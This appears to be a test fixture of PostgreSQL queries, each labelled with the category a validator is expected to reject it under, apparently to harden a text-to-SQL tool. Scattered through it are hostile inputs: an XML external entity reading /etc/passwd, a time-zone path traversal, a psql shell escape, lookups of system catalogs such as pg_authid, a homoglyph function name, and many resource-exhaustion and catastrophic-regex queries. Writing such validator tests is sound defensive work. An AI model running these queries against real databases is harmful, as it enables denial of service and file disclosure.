-- clock/compared-without-a-cast: clock
SELECT COUNT(*) FROM db_event e WHERE e.occurred_at >= 'today'

-- clock/compared-with-an-hour: clock
SELECT COUNT(*) FROM db_event e WHERE e.occurred_at BETWEEN 'yesterday 18:00+09' AND 'today 06:00 Asia/Seoul'

-- clock/date-of-a-text: clock
SELECT date('today')

-- clock/by-way-of-text: clock
SELECT 'today'::text::date

-- clock/age-from-today: function
SELECT age(e.occurred_at) FROM db_event e

-- function/gen-random-uuid: function
SELECT gen_random_uuid()

-- function/repeat: function
SELECT repeat('a', 100000000)

-- function/repeat-like: function
SELECT repeat('a', 10000000) LIKE repeat('%a', 1000)

-- constant/format-pad: constant
SELECT FORMAT('%1000000s', 'a')

-- constant/format-pad-by-argument: constant
SELECT FORMAT('%*s', 1000000, 'a')

-- constant/format-identifier: constant
SELECT FORMAT('%%%I', 'a')

-- constant/format-of-a-column: constant
SELECT FORMAT(description, 'a') FROM db_event

-- constant/to-date-format: constant
SELECT TO_DATE('2026', description) FROM db_event

-- constant/make-timestamptz-zone: constant
SELECT MAKE_TIMESTAMPTZ(2026, 3, 2, 14, 0, 0, description || 'x') FROM db_event

-- function/regexp-replace: function
SELECT regexp_replace(description, 'a', repeat('b', 1000), 'g') FROM db_event

-- function/regexp-matches: function
SELECT regexp_matches(description, '(a+)+$') FROM db_event

-- function/regexp-split-to-table: function
SELECT * FROM regexp_split_to_table('a b', ' ') AS t

-- function/string-to-table: function
SELECT * FROM string_to_table('a,b', ',') AS t

-- function/string-to-array: function
SELECT string_to_array(description, '') FROM db_event

-- function/array-fill: function
SELECT array_fill(0, ARRAY[100000000])

-- function/array-to-string: function
SELECT array_to_string(ARRAY[1, 2], ',')

-- function/factorial: function
SELECT factorial(100000)

-- constant/power: constant
SELECT power(10.0, 100000)

-- function/exp: function
SELECT exp(5000.0::numeric)

-- function/generate-series-in-list: function
SELECT generate_series(1, 1000000000)

-- function/generate-series-in-where: function
SELECT id FROM db_event WHERE id IN (SELECT generate_series(1, 10))

-- function/unnest-in-list: function
SELECT unnest(ARRAY[1, 2])

-- function/generate-subscripts: function
SELECT * FROM generate_subscripts(ARRAY[1], 1) AS t

-- function/substring-regex-column: function
SELECT SUBSTRING(description, location) FROM db_event

-- function/substring-similar: function
SELECT SUBSTRING(description SIMILAR '#"a%#"b' ESCAPE '#') FROM db_event

-- function/substring-null: function
SELECT SUBSTRING(description, NULL) FROM db_event

-- function/operator-function: function
SELECT textregexeq('a', '(a+)+$')

-- function/texteq: function
SELECT texteq('a', 'b')

-- function/like-function: function
SELECT like('a', 'b')

-- function/int4in: function
SELECT int4in('1')

-- function/regclassin: function
SELECT regclassin('db_user')

-- function/record-out: function
SELECT record_out(e) FROM db_event e

-- function/public-function: function
SELECT public.count(*)

-- function/other-schema: function
SELECT evil.lower('A')

-- function/database-qualified: function
SELECT a.b.lower('A')

-- function/reader-scope-of-this-product: function
SELECT db_scope_video_ids()

-- function/uppercase-quoted: function
SELECT "COUNT"(*) FROM db_event

-- function/homoglyph: function
SELECT cоunt(*) FROM db_event

-- function/two-stars: function
SELECT SUM(*) FROM db_event

-- function/count-empty: function
SELECT COUNT() FROM db_event

-- function/too-many-arguments: function
SELECT LOWER('a', 'b')

-- function/window-without-over: function
SELECT ROW_NUMBER() FROM db_event

-- function/over-on-scalar: function
SELECT LOWER(location) OVER () FROM db_event

-- function/string-agg-over: function
SELECT STRING_AGG(location, ',') OVER (ORDER BY id) FROM db_event

-- function/distinct-on-scalar: function
SELECT LOWER(DISTINCT location) FROM db_event

-- function/filter-on-scalar: function
SELECT LOWER(location) FILTER (WHERE TRUE) FROM db_event

-- function/within-group-on-plain: function
SELECT MAX() WITHIN GROUP (ORDER BY age) FROM db_event

-- function/percentile-without-group: function
SELECT PERCENTILE_CONT(0.5) FROM db_event

-- function/hypothetical-set: function
SELECT RANK(1) WITHIN GROUP (ORDER BY age) FROM db_event

-- function/named-argument: function
SELECT LOWER(x => location) FROM db_event

-- function/make-interval-unknown-part: function
SELECT MAKE_INTERVAL(ages => 1)

-- function/from-two-functions: function
SELECT * FROM upper('a') AS t

-- function/from-now: function
SELECT * FROM now() AS t

-- function/from-current-user: function
SELECT * FROM CURRENT_USER AS t

-- function/from-count: function
SELECT * FROM count(*) AS t

-- function/unnest-column: function
SELECT x FROM unnest('{a,b}'::text[]) AS t(x)

-- function/unnest-two: function
SELECT * FROM unnest(ARRAY[1], ARRAY[2]) AS t(a, b)

-- function/pg-catalog-series: function
SELECT x FROM pg_catalog.generate_series(1, 1000000000) AS t(x)

-- operator/similar-to: operator
SELECT id FROM db_event WHERE description SIMILAR TO '%(a|b)*%'

-- operator/power: operator
SELECT 10 ^ 10

-- operator/power-numeric-bomb: operator
SELECT 10.0 ^ 130000 * 10.0 ^ 130000

-- operator/json-arrow: operator
SELECT description -> 'a' FROM db_event

-- operator/json-text-arrow: operator
SELECT description ->> 'a' FROM db_event

-- operator/contains: operator
SELECT ARRAY[1] @> ARRAY[1]

-- operator/overlap: operator
SELECT ARRAY[1] && ARRAY[1]

-- operator/text-search: operator
SELECT description @@ 'a' FROM db_event

-- operator/vector-distance: operator
SELECT description <-> description FROM db_event

-- operator/bit-and: operator
SELECT 1 & 2

-- operator/shift: operator
SELECT 1 << 30

-- operator/square-root: operator
SELECT |/ 2

-- operator/absolute: operator
SELECT @ -1

-- operator/factorial: syntax
SELECT 5 !

-- operator/schema-qualified: operator
SELECT 1 OPERATOR(pg_catalog.+) 1

-- operator/schema-qualified-other: operator
SELECT id FROM db_event WHERE id OPERATOR(evil.=) 1

-- operator/regex-schema-qualified: operator
SELECT id FROM db_event WHERE description OPERATOR(pg_catalog.~) 'x'

-- operator/regex-any: operator
SELECT id FROM db_event WHERE description ~ ANY (ARRAY['a', 'b'])

-- operator/regex-any-subquery: operator
SELECT id FROM db_event WHERE description ~ ANY (SELECT location FROM db_event)

-- operator/starts-with: operator
SELECT id FROM db_event WHERE description ^@ 'a'

-- operator/plus-any: operator
SELECT 1 + ANY (ARRAY[1])

-- operator/placeholder-of-a-driver: placeholder
SELECT id FROM db_event WHERE id = %s

-- type/regclass: type
SELECT 'db_user'::regclass

-- type/regclass-to-oid: type
SELECT 'pg_authid'::regclass::oid

-- type/regproc: type
SELECT 'pg_sleep'::regproc

-- type/regprocedure: type
SELECT 'pg_sleep(float8)'::regprocedure

-- type/regrole: type
SELECT 'postgres'::regrole

-- type/regnamespace: type
SELECT 'public'::regnamespace

-- type/regtype: type
SELECT 'int'::regtype

-- type/regconfig: type
SELECT 'english'::regconfig

-- type/regcollation: type
SELECT 'C'::regcollation

-- type/oid: type
SELECT 1::oid

-- type/xid: type
SELECT '1'::xid

-- type/tid: type
SELECT '(0,1)'::tid

-- type/xml: type
SELECT '<a/>'::xml

-- type/xml-external-entity: type
SELECT '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'::xml

-- type/json: type
SELECT '{}'::json

-- type/jsonb: type
SELECT description::jsonb FROM db_event

-- type/jsonpath: type
SELECT '$.a'::jsonpath

-- type/bytea: type
SELECT description::bytea FROM db_event

-- type/name: type
SELECT location::name FROM db_event

-- type/char-pads: type
SELECT 'a'::char(10000000)

-- type/bpchar: type
SELECT 'a'::bpchar

-- type/character: type
SELECT CAST('a' AS character(5))

-- type/internal-char: type
SELECT 'a'::"char"

-- type/bit: type
SELECT 1::bit(8)

-- type/varbit: type
SELECT '1'::bit varying(100000000)

-- type/inet: type
SELECT '127.0.0.1'::inet

-- type/uuid: type
SELECT 'a'::uuid

-- type/money: type
SELECT 1::money

-- type/tsvector: type
SELECT description::tsvector FROM db_event

-- type/tsquery: type
SELECT 'a'::tsquery

-- type/vector: type
SELECT '[1]'::vector

-- type/range: type
SELECT '[1,2]'::int4range

-- type/point: type
SELECT '(1,2)'::point

-- type/polygon: type
SELECT '((1,2))'::polygon

-- type/pg-lsn: type
SELECT '0/0'::pg_lsn

-- type/record: type
SELECT NULL::record

-- type/table-row: type
SELECT NULL::db_event

-- type/table-row-from-text: type
SELECT '(1)'::db_video

-- type/public-type: type
SELECT 'a'::public.text

-- type/percent-type: type
SELECT 'a'::db_user.password%TYPE

-- type/setof: construct
SELECT 'a'::SETOF text

-- type/array-of-regclass: type
SELECT '{db_user}'::regclass[]

-- type/array-of-a-column: type
SELECT description::text[] FROM db_event

-- type/array-two-dimensions: type
SELECT '{{1}}'::int[][]

-- type/array-length: type
SELECT '{1}'::int[3]

-- type/cast-syntax: type
SELECT CAST('db_user' AS regclass)

-- type/prefix-syntax: type
SELECT regclass 'db_user'

-- type/function-syntax: function
SELECT regclass('db_user')

-- type/text-function-syntax: function
SELECT text(id) FROM db_event

-- constant/numeric-typmod: constant
SELECT 1::numeric(1000, 500)

-- constant/exponent: constant
SELECT 1e100000

-- constant/negative-exponent: constant
SELECT 1e-16000

-- constant/many-digits: constant
SELECT 11111111111111111111111111111111111111111111111111111111111111111111111111111111111111111111111

-- constant/varchar-typmod: constant
SELECT 'a'::varchar(10000000)

-- constant/round-decimals: constant
SELECT ROUND(1.5, 16000)

-- constant/round-decimals-column: constant
SELECT ROUND(confidence::numeric, age) FROM db_event

-- constant/lpad-length: constant
SELECT LPAD('a', 100000000, 'b')

-- constant/lpad-length-column: constant
SELECT LPAD('a', age, 'b') FROM db_event

-- constant/rpad-length-expression: constant
SELECT RPAD('a', 1000 * 1000, 'b')

-- constant/to-char-format-column: constant
SELECT TO_CHAR(occurred_at, description) FROM db_event

-- constant/to-char-format-built: constant
SELECT TO_CHAR(occurred_at, 'YYYY' || description) FROM db_event

-- constant/to-char-format-long: constant
SELECT TO_CHAR(1, '9999999999999999999999999999999999999999999999999999999999999999999999999999')

-- constant/time-zone-path: constant
SELECT occurred_at AT TIME ZONE '../../etc/passwd' FROM db_event

-- constant/time-zone-built: constant
SELECT occurred_at AT TIME ZONE (description || 'x') FROM db_event

-- constant/time-zone-subquery: constant
SELECT occurred_at AT TIME ZONE (SELECT timezone FROM db_video LIMIT 1) FROM db_event

-- constant/date-trunc-field: constant
SELECT DATE_TRUNC(description, occurred_at) FROM db_event

-- constant/date-part-field: constant
SELECT DATE_PART(location, occurred_at) FROM db_event

-- constant/string-agg-separator: constant
SELECT STRING_AGG(DISTINCT event_type, description) FROM db_event

-- constant/ntile: constant
SELECT NTILE(age) OVER () FROM db_event

-- constant/lag-step: constant
SELECT LAG(id, age) OVER (ORDER BY id) FROM db_event

-- constant/window-frame: constant
SELECT COUNT(*) OVER (ORDER BY id ROWS BETWEEN 1 + 1 PRECEDING AND CURRENT ROW) FROM db_event

-- constant/series-end-column: constant
SELECT g.x FROM db_event e, LATERAL (SELECT x FROM generate_series(1, e.id) AS s(x)) g

-- constant/series-end-expression: constant
SELECT x FROM generate_series(1, 1000 * 1000) AS g(x)

-- constant/series-of-moments: constant
SELECT x FROM generate_series('2026-03-02'::timestamptz, '2027-03-02', '1 millisecond') AS g(x)

-- constant/offset-large: constant
SELECT id FROM db_event OFFSET 100000000

-- constant/offset-negative: constant
SELECT id FROM db_event OFFSET -1

-- constant/offset-expression: constant
SELECT id FROM db_event OFFSET (SELECT 1)

-- constant/order-by-position: constant
SELECT id FROM db_event ORDER BY 2

-- constant/group-by-position: constant
SELECT COUNT(*) FROM db_event GROUP BY 0

-- constant/group-by-text: constant
SELECT COUNT(*) FROM db_event GROUP BY 'x'

-- constant/like-escape: constant
SELECT id FROM db_event WHERE location LIKE 'a' ESCAPE location

-- limit/expression: limit
SELECT id FROM db_event LIMIT 1 + 1

-- limit/subquery: limit
SELECT id FROM db_event LIMIT (SELECT COUNT(*) FROM db_event)

-- limit/cast: limit
SELECT id FROM db_event LIMIT '5'::int

-- limit/text: limit
SELECT id FROM db_event LIMIT '5'

-- limit/float: limit
SELECT id FROM db_event LIMIT 1.5

-- limit/negative: limit
SELECT id FROM db_event LIMIT -1

-- limit/huge: limit
SELECT id FROM db_event LIMIT 99999999999

-- limit/case: limit
SELECT id FROM db_event LIMIT CASE WHEN TRUE THEN 1000000 END

-- limit/with-ties: limit
SELECT id FROM db_event ORDER BY severity FETCH FIRST 1 ROW WITH TIES

-- limit/inner-expression: constant
SELECT id FROM (SELECT id FROM db_event LIMIT 2 * 3) t

-- placeholder/dollar: placeholder
SELECT id FROM db_event WHERE id = $1

-- placeholder/dollar-in-limit: placeholder
SELECT id FROM db_event LIMIT $1

-- placeholder/percent-s: placeholder
SELECT %s FROM db_event

-- placeholder/percent-named: placeholder
SELECT id FROM db_event WHERE id = %(id)s

-- placeholder/colon: placeholder
SELECT id FROM db_event WHERE id = :id

-- placeholder/question-mark: syntax
SELECT id FROM db_event WHERE id = ?

-- placeholder/braces: syntax
SELECT id FROM db_event WHERE id = {id}

-- join/none: join
SELECT a.id FROM db_event a, db_event b

-- join/cross: join
SELECT COUNT(*) FROM db_event CROSS JOIN db_video

-- join/three-cross: join
SELECT COUNT(*) FROM db_event a CROSS JOIN db_event b CROSS JOIN db_event c

-- join/on-true: join
SELECT a.id FROM db_event a JOIN db_event b ON TRUE

-- join/one-sided: join
SELECT a.id FROM db_event a JOIN db_event b ON a.id = 1 AND b.id > 2

-- join/or-true: join
SELECT a.id FROM db_event a JOIN db_event b ON a.id = b.id OR TRUE

-- join/or-one-sided: join
SELECT a.id FROM db_event a JOIN db_event b ON (a.id = b.id OR a.age > 3)

-- join/not-equal-negated: join
SELECT a.id FROM db_event a JOIN db_event b ON NOT a.id = b.id

-- join/third-loose: join
SELECT a.id FROM db_event a JOIN db_event b ON a.id = b.id, db_video v

-- join/of-cte: join
WITH g AS (SELECT id FROM db_event) SELECT COUNT(*) FROM g a, g b

-- join/of-subqueries: join
SELECT COUNT(*) FROM (SELECT id FROM db_event) a, (SELECT id FROM db_event) b

-- join/lateral-loose: join
SELECT COUNT(*) FROM db_event e, LATERAL (SELECT x.id FROM db_event x) t

-- join/left-on-true: join
SELECT COUNT(*) FROM db_event a LEFT JOIN db_event b ON 1 = 1

-- join/many-values: join
SELECT COUNT(*) FROM generate_series(1, 10000) a, generate_series(1, 10000) b

-- join/many-reads: join
WITH a AS (SELECT x.id FROM db_event x JOIN db_event y USING (id)), b AS (SELECT x.id FROM a x JOIN a y USING (id)), c AS (SELECT x.id FROM b x JOIN b y USING (id)), d AS (SELECT x.id FROM c x JOIN c y USING (id)), e AS (SELECT x.id FROM d x JOIN d y USING (id)) SELECT COUNT(*) FROM e

-- size/replace-grown: size
SELECT REPLACE(description, 'a', description) FROM db_event

-- size/replace-twice: size
SELECT REPLACE(REPLACE(description, 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa') FROM db_event

-- size/like-over-grown: size
SELECT id FROM db_event WHERE (description || description || description) LIKE '%' || description || description || '%'

-- size/like-wildcards: size
SELECT id FROM db_event WHERE description LIKE '%a%a%a%a%a%a%a%a%a%a%a%a%a%a%a%a%a%b'

-- size/doubling: size
WITH a AS (SELECT description || description AS d FROM db_event), b AS (SELECT d || d || d || d AS d FROM a), c AS (SELECT d || d || d || d AS d FROM b), f AS (SELECT d || d || d || d AS d FROM c), g AS (SELECT d || d || d || d AS d FROM f) SELECT d FROM g

-- size/doubling-numbers: size
WITH a AS (SELECT id::numeric * id AS d FROM db_event), b AS (SELECT d * d * d * d AS d FROM a), c AS (SELECT d * d * d * d AS d FROM b) SELECT d FROM c

-- size/number-of-a-text: size
SELECT description::numeric * description::numeric FROM db_event

-- size/string-agg: size
SELECT STRING_AGG(description, '') FROM db_event

-- size/string-agg-distinct-text: size
SELECT STRING_AGG(DISTINCT location, ',') FROM db_event

-- size/string-agg-renamed: size
SELECT STRING_AGG(DISTINCT t.event_type, ',') FROM (SELECT description AS event_type FROM db_event) t

-- size/string-agg-of-the-outer-query: size
SELECT (SELECT STRING_AGG(e.description, '') FROM (VALUES (1)) AS v(x)) FROM db_event e

-- size/string-agg-few-of-the-outer-query: size
SELECT (SELECT STRING_AGG(DISTINCT e.description, '') FROM (SELECT 1 AS x) t) FROM db_event e

-- size/string-agg-wide-limit: size
SELECT STRING_AGG(t.description, '') FROM (SELECT description FROM db_event LIMIT 5000) t

-- size/string-agg-two-limits: size
SELECT STRING_AGG(a.gender, '') FROM (SELECT gender, id FROM db_event LIMIT 500) a, (SELECT id FROM db_event LIMIT 500) b WHERE a.id <> b.id

-- size/array-agg: size
SELECT ARRAY_AGG(id) FROM db_event

-- size/array-of-subquery: size
SELECT ARRAY(SELECT description FROM db_event)

-- size/array-of-subquery-aggregating-the-outer: size
SELECT ARRAY(SELECT COUNT(e.id) FROM db_event x) FROM db_event e

-- size/like-over-string-agg: size
SELECT STRING_AGG(t.description, '') LIKE '%' || STRING_AGG(t.description, '') FROM (SELECT description FROM db_event LIMIT 50) t

-- size/series: size
SELECT x FROM generate_series(1, 1000000000) AS g(x)

-- size/series-step-zero: size
SELECT x FROM generate_series(1, 10, 0) AS g(x)

-- size/initcap-of-chains: size
SELECT INITCAP(INITCAP(INITCAP(INITCAP(INITCAP(INITCAP(INITCAP(INITCAP(description)))))))) FROM db_event

-- size/translate-chains: size
SELECT TRANSLATE(TRANSLATE(TRANSLATE(TRANSLATE(description, 'a', '한'), 'b', '한'), 'c', '한'), 'd', '한') FROM db_event

-- size/translate-long: size
SELECT TRANSLATE(LPAD('a', 1000, 'b') || description || description || description || description, description || description || description || description, 'a') FROM db_event

-- size/replace-looking-for-much: size
SELECT REPLACE(description || description || description || description, description || description || description || description, '') FROM db_event

-- size/position-of-much: size
SELECT POSITION(description || description || description || description IN description || description || description || description) FROM db_event

-- size/wide-rows: size
WITH a AS (SELECT description || description || description || description || description AS d FROM db_event) SELECT d || d AS a, d || d AS b, d || d AS c, d || d AS e, d || d AS f, d || d AS g, d || d AS h, d || d AS i, d || d AS j, d || d AS k, d || d AS l, d || d AS m, d || d AS n FROM a

-- size/string-agg-of-a-status: size
SELECT STRING_AGG(DISTINCT status, ',') FROM db_video

-- constant/percentile-of-a-column: constant
SELECT PERCENTILE_CONT(confidence) WITHIN GROUP (ORDER BY age) FROM db_event GROUP BY confidence

-- syntax/not-sql: syntax
도난 사건이 있었나요?

-- syntax/markdown: syntax
```sql
SELECT 1
```

-- syntax/mysql-backticks: syntax
SELECT `id` FROM `db_event`

-- syntax/unclosed-text: syntax
SELECT 'abc FROM db_event

-- syntax/unclosed-dollar: syntax
SELECT $a$ abc FROM db_event

-- syntax/unclosed-comment: syntax
SELECT 1 /* abc

-- syntax/unclosed-bracket: syntax
SELECT (1 FROM db_event

-- syntax/psql-command: syntax
\! id

-- syntax/wrenai-leading-text: syntax
Here is the SQL: SELECT id FROM db_event

-- syntax/adjacent-texts: syntax
SELECT 'a' 'b'

-- syntax/brackets-of-sql-server: syntax
SELECT [id] FROM [db_event]

-- construct/cube-of-five: construct
SELECT COUNT(*) FROM db_event GROUP BY CUBE (event_type, gender, location, severity, video_id)

-- constant/regex-of-a-column: constant
SELECT id FROM db_event WHERE description ~ location

-- constant/regex-built: constant
SELECT id FROM db_event WHERE description ~ ('a' || 'b')

-- constant/regex-too-long: constant
SELECT id FROM db_event WHERE description ~ 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'

-- constant/regex-back-reference: constant
SELECT id FROM db_event WHERE description ~ '(a*)*\1b'

-- constant/regex-director: constant
SELECT id FROM db_event WHERE description ~ '***:(a)'

-- constant/regex-repeats: constant
SELECT id FROM db_event WHERE description ~ '(a{1,250}){1,250}'

-- constant/regexp-replace-pattern-of-a-column: constant
SELECT regexp_replace(description, location, 'x') FROM db_event

-- constant/regexp-replace-replacement-of-a-column: constant
SELECT regexp_replace(description, 'a', description, 'g') FROM db_event

-- constant/regexp-replace-long-replacement: constant
SELECT regexp_replace(description, 'a', 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb', 'g') FROM db_event

-- size/regexp-replace-of-regexp-replace: size
SELECT regexp_replace(regexp_replace(description, '', '&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&', 'g'), '', '&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&', 'g') FROM db_event

-- constant/regexp-replace-start: constant
SELECT regexp_replace(description, 'a', 'b', 2) FROM db_event

-- constant/regexp-flags: constant
SELECT regexp_count(description, 'a', 1, 'gz') FROM db_event

-- constant/substring-regex-back-reference: constant
SELECT SUBSTRING(description FROM '(a*)*\1b') FROM db_event

-- constant/power-of-a-column: constant
SELECT power(age, timestamp) FROM db_event

-- constant/power-large: constant
SELECT power(2.5, 100000) FROM db_event

-- constant/power-negative: constant
SELECT power(2.5, -11) FROM db_event

-- function/width-bucket-of-three: function
SELECT width_bucket(age, 0, 10) FROM db_event

-- constant/percentile-of-a-column-s-array: constant
SELECT percentile_cont(ARRAY[confidence, 0.5]) WITHIN GROUP (ORDER BY age) FROM db_event GROUP BY confidence

-- constant/percentile-of-too-many: constant
SELECT percentile_cont(ARRAY[0.01, 0.02, 0.03, 0.04, 0.05, 0.06, 0.07, 0.08, 0.09, 0.10, 0.11, 0.12, 0.13, 0.14, 0.15, 0.16, 0.17, 0.18, 0.19, 0.20, 0.21]) WITHIN GROUP (ORDER BY age) FROM db_event
